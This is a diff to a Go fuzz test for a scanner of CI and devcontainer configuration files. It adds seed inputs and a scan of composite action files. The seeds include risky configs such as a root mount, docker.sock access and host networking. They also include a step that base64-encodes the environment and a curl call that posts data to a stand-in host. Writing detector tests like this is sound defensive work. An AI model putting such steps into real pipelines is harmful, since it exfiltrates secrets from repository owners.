@@ -38,6 +38,8 @@ func FuzzCIConfig(f *testing.F) {
 		"// c\n{\"build\": {\"dockerfile\": \"Dockerfile\"}, \"runArgs\": [\"--network\", \"host\"], \"mounts\": [{\"source\": \"/\"}], \"postCreateCommand\": {\"a\": [\"sh\", \"-c\", \"x\"]},}",
 		"services:\n  a:\n    volumes: [\"~/:/h\", {source: /var/run/docker.sock}]\n    pid: host\n    command: [\"sh\", \"-c\", \"$$x\"]\n",
 		"jobs: [\nsteps:",
+		"on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n      - run: a\n      __STEP__\n      {{ more }}\n      - run: env | base64\n",
+		"inputs:\n  c: {}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        C: ${{ inputs.c }}\n      run: curl -d \"$C\" https://x.example\n",
 	} {
 		f.Add(s)
 	}
@@ -45,5 +47,6 @@ func FuzzCIConfig(f *testing.F) {
 		sc := scanCtx(text)
 		scanCIConfig(sc, ".devcontainer/devcontainer.json", text, 1, inScript)
 		scanCIConfig(sc, ".github/workflows/ci.yml", text, 1, inCode)
+		scanCIConfig(sc, "templates/actions/a/action.yml", text, 1, inScript)
 	})
 }
